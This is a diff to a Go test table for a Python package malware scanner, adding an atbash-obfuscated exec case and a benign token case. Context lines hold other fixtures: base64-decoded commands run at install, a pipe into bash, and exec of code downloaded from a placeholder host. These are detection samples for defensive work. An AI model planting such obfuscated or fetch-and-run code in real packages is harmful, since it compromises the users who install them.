@@ -74,6 +74,8 @@ var ruleCases = []ruleCase{
 	{"exec of a version file is fine", map[string]string{"setup.py": "exec(open('p/version.py').read())\nfrom setuptools import setup\nsetup()\n"}, "", Clean},
 	{"a command carried in base64 that reads as none run at install", map[string]string{"setup.py": "import base64, os\nfrom setuptools import setup\ndef b64d(s):\n    return base64.b64decode(s.encode('ascii')).decode('ascii')\nos.system(b64d('CODE_REPLACE'))\nsetup(name='p')\n"}, "exec-obfuscated", Suspicious},
 	{"a plain command beside a decoded version at install is fine", map[string]string{"setup.py": "import base64, os\nfrom setuptools import setup\nversion = base64.b64decode('MS4w').decode()\nos.system('make -C native')\nsetup(name='p', version=version)\n"}, "", Clean},
+	{"atbash over the string module's alphabet", map[string]string{"p/__init__.py": "import string\nt = str.maketrans(string.ascii_lowercase, string.ascii_lowercase[::-1])\nexec('rnkliu lh; lh.hbhgvn(\"rw\")'.translate(t))\n"}, "exec-obfuscated", Malicious},
+	{"a token drawn from the string module's alphabet is fine", map[string]string{"p/__init__.py": "import random, string\nTOKEN = ''.join(random.choice(string.ascii_letters + string.digits) for _ in range(32))\nprint(TOKEN.translate(str.maketrans(string.ascii_lowercase, string.ascii_uppercase)))\n"}, "", Clean},
 	{"echo blob | base64 -d | bash", map[string]string{"setup.py": "import os\nblob = get()\nos.system('echo %s|base64 -d|bash' % blob)\n"}, "exec-obfuscated", Malicious},
 	// exec-remote-code
 	{"exec of a download on import", map[string]string{"p/__init__.py": "import requests\nexec(requests.get('https://example.invalid/x').text)\n"}, "exec-remote-code", Malicious},
